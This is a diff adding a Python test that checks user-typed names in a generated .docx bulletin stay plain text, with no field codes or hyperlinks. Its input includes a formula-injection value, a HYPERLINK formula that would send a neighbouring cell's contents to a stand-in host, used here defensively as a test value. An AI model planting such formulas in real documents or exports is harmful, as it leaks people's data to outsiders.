@@ -278,3 +278,20 @@ def bulletin_docx_of(world, week):
     from reports.docx import bulletin_docx
 
     return bulletin_docx(bulletin.bulletin_data(world.estate.subdistrict, week))
+
+
+def test_the_docx_holds_what_a_person_typed_as_text_without_fields(week):
+    """Names a person typed (a community's, a responsible unit's) are text in the .docx: no field
+    codes, no hyperlinks, as typed (issue 22, part 2)."""
+    from property.models import Community
+    from reports.docx import bulletin_docx
+
+    typed = '=HYPERLINK("http://x.example?c="&C2,"详情")'
+    Community.objects.filter(pk=week.community_a.pk).update(name="=1+1")
+    data = bulletin.bulletin_data(week.subdistrict, monday())
+    data["overdue_units"] = [{"name": typed, "overdue": 3}]  # a responsible unit's name, as typed
+    document = Document(BytesIO(bulletin_docx(data)))
+    assert "=1+1" in [row.cells[0].text for row in document.tables[0].rows]
+    assert [p.text for p in document.paragraphs if p.text.startswith("=")][0].startswith(typed)
+    xml = document.element.xml
+    assert [tag for tag in ("w:fldSimple", "w:instrText", "w:fldChar", "w:hyperlink") if tag in xml] == []
